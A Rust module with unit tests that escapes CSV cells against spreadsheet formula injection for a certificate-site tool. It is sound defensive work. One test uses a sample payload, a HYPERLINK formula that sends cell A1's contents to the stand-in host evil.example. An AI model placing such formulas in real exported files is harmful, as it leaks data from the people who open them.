//! Stage "render", CSV cells: every CSV file certsite writes (`results.csv`, DESIGN §4; the
//! printing office's `.certsite/print/certificates.csv` and `batch.csv`) escapes its cells here,
//! so that none runs as a formula when the file is opened in a spreadsheet.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
//! (OWASP, "CSV Injection"): a spreadsheet then shows the text instead of evaluating it. The
//! JSON documents (`results.json`) keep the exact text; only the CSV copies are guarded.

use std::borrow::Cow;

/// The UTF-8 byte order mark: spreadsheet programs read a CSV file that starts with it as
/// UTF-8 (without it, Excel reads "Ə" as two Latin-1 characters).
pub const BOM: &str = "\u{feff}";

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell's text, with a leading `'` when it would start a formula.
pub fn guard(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Appends `text` as one RFC 4180 cell: guarded (see [`guard`]), then quoted when it holds a
/// comma, a quote or a line break (a quote inside doubled).
pub fn push_field(out: &mut String, text: &str) {
    let text = guard(text);
    if text.contains([',', '"', '\n', '\r']) {
        out.push('"');
        out.push_str(&text.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&text);
    }
}

/// One cell as text.
pub fn field(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    push_field(&mut out, text);
    out
}

/// Appends one row of cells (each as [`push_field`] writes it) and a line break.
pub fn push_row(out: &mut String, cells: &[&str]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_field(out, cell);
    }
    out.push('\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused_and_quoted() {
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
        assert_eq!(field(evil), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"x\"\")\"");
        for start in ["+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(field(start).trim_start_matches('"').starts_with('\''), "{start:?}");
        }
        assert_eq!(field("Əliyev, Ə"), "\"Əliyev, Ə\"");
        assert_eq!(field("T-0001"), "T-0001");
        assert_eq!(guard("a=b"), "a=b");
        let mut row = String::new();
        push_row(&mut row, &["-12", "7K2M", "https://x.org/c/7K2M/"]);
        assert_eq!(row, "'-12,7K2M,https://x.org/c/7K2M/\n");
    }
}
